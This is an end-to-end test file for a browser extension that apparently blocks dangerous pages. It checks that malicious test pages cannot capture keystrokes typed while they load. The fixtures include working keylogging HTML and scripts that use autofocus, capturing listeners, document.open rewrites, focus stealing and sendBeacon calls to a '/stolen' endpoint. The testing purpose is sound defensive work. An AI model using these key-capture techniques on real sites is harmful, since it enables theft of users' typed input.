import { expect, names, strict, test } from '../support/e2e/fixtures.ts';
import type { Hostwise } from '../support/e2e/hostwise.ts';
import { startTyping } from '../support/e2e/typist.ts';

const dangerous = `http://${names.machine}`;
const plain = `http://${names.plain}/`;
/** What is stolen while the page is held or covered. The hold ends after 300 ms, which a busy machine may exceed. */
const steal = `(event) => steal(event.type)`;
const prelude = `<script>
  const { navigationStart, domLoading } = performance.timing;
  let isCovered = false;
  setInterval(() => (isCovered ||= document.querySelector('html > div[popover]') !== null), 2);
  const steal = (what) => {
    if (isCovered || performance.now() < domLoading - navigationStart + 290) {
      navigator.sendBeacon('/stolen?' + what + (isCovered ? '-covered' : ''));
    }
  };
</script>`;

/** Pages that want the keys of a person who types while the page opens. */
const pages: Readonly<Record<string, string>> = {
  'focuses its input': `<input autofocus oninput="steal('input')">`,
  'listens on the window with its first script': `<input autofocus>
    <script>for (const type of ['keydown', 'keyup', 'input']) addEventListener(type, ${steal}, true)</script>`,
  'opens its document again': `<script type="module">
      document.open();
      addEventListener('keydown', ${steal}, true);
      document.write('<input autofocus>');
      document.querySelector('input').focus();
    </script>`,
  'opens its document again and again': `<script>
      setInterval(() => {
        document.open();
        addEventListener('keydown', ${steal}, true);
        document.write('<input autofocus>');
        document.querySelector('input').focus();
      }, 15);
    </script>`,
  'answers every change of its document': `<input autofocus><script>
      new MutationObserver(() => {
        if (document.querySelector('input') !== null) return;
        document.open();
        addEventListener('keydown', ${steal}, true);
        document.append(document.createElement('html'));
      }).observe(document, { childList: true, subtree: true });
    </script>`,
  'wants to keep the user': `<input autofocus><script>
      addEventListener('keydown', ${steal}, true);
      onbeforeunload = (event) => event.preventDefault();
    </script>`,
};

/** Its listeners come before ours, and it takes the focus back: it hears keys until it is covered. */
const stubborn = `<script>
  setTimeout(() => {
    document.open();
    addEventListener('keydown', ${steal}, true);
    for (const type of ['focus', 'blur']) addEventListener(type, (event) => event.stopImmediatePropagation(), true);
    document.write('<input autofocus>');
    stop();
    setInterval(() => document.activeElement?.blur(), 10);
  }, 5);
</script>`;

/** Opens a page with a stopped worker while someone types. Resolves to the number of keys. */
async function visitTyping(hostwise: Hostwise, url: string): Promise<number> {
  await hostwise.changeSettings(strict);
  const page = await hostwise.open(plain);
  page.on('dialog', (dialog) => void dialog.dismiss().catch(() => undefined));
  // A page may ask the user to stay only after the user has used the tab.
  await page.locator('h1').click();
  await hostwise.stopWorker();
  await page.bringToFront();
  const typist = await startTyping(page);
  await hostwise.visit(page, url);
  await expect.poll(() => page.url()).toContain('chrome-extension:');
  return typist.stop();
}

for (const [what, html] of Object.entries(pages)) {
  const path = `/${what.replaceAll(' ', '-')}`;
  for (const [how, url] of [
    ['directly', `${dangerous}${path}`],
    ['behind a redirect', `${plain}redirect?to=${encodeURIComponent(`${dangerous}${path}`)}`],
  ] as const) {
    test(`a dangerous page that ${what} gets no key from a cold worker, opened ${how}`, async ({ hostwise, sites }) => {
      sites.page(path, prelude + html);
      const before = sites.visits.length;
      expect(await visitTyping(hostwise, url)).toBeGreaterThan(0);
      expect(sites.visits.slice(before).filter((visit) => visit.includes('/stolen'))).toEqual([]);
    });
  }
}

test('a page that opens its document, stops loading and takes the focus back hears no key once it is covered', async ({
  hostwise,
  sites,
}) => {
  sites.page('/stubborn', prelude + stubborn);
  const before = sites.visits.length;
  expect(await visitTyping(hostwise, `${dangerous}/stubborn`)).toBeGreaterThan(0);
  expect(sites.visits.slice(before).filter((visit) => visit.endsWith('-covered'))).toEqual([]);
});
